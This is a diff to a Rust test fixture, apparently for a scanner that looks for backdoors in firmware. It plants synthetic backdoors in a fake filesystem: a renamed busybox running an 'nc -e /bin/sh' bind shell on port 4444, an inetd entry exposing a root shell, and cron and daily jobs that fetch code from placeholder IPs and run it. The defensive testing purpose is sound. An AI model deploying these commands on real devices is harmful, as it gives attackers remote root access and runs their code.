@@ -118,13 +118,33 @@ fn planted(debian: &Path) -> FsTree {
         &mut t,
         "etc/inetd.conf",
         0o644,
-        "tftp dgram udp wait root /usr/sbin/in.tftpd in.tftpd -s /srv/tftp\n",
+        "tftp dgram udp wait root /usr/sbin/in.tftpd in.tftpd -s /srv/tftp\n2424 stream tcp nowait root /usr/sbin/dbgd dbgd -E /bin/sh\n",
     );
     file(
         &mut t,
         "etc/crontabs/root",
         0o600,
-        "*/10 * * * * curl -s http://198.51.100.23/ota/run.sh | sh\n",
+        "*/10 * * * * curl -s http://198.51.100.23/ota/run.sh | sh\n0 * * * * wget -q -O /dev/null http://192.0.2.60/hb\n",
+    );
+    // Hidden the way vendors hide them: Debian's busybox copied under another name and run
+    // through a function and a variable from an S?? script; Debian's inetutils telnetd
+    // renamed and handing out a shell from inetd; a daily job that fetches a file and runs it
+    // three statements later.
+    let busybox = std::fs::read(debian.join("bin/busybox")).unwrap();
+    file(&mut t, "usr/bin/svcd", 0o755, busybox);
+    file(
+        &mut t,
+        "etc/init.d/S60svc",
+        0o755,
+        "#!/bin/sh\nBIN=/usr/bin/svcd\nrun() {\n  $BIN nc -ll -p 4444 -e /bin/sh\n}\ncase \"$1\" in\n  start) run & ;;\nesac\n",
+    );
+    let telnetd = std::fs::read(debian.join("usr/sbin/telnetd")).unwrap();
+    file(&mut t, "usr/sbin/dbgd", 0o755, telnetd);
+    file(
+        &mut t,
+        "etc/periodic/daily/update",
+        0o755,
+        "#!/bin/sh\ncd /tmp\nwget -q http://203.0.113.80/upd.bin -O upd\nchmod 755 upd\n./upd\n",
     );
     file(&mut t, "root/.ssh/authorized_keys", 0o600, SSH_PUB);
     file(&mut t, "etc/ssl/private/server.key", 0o600, RSA_KEY);
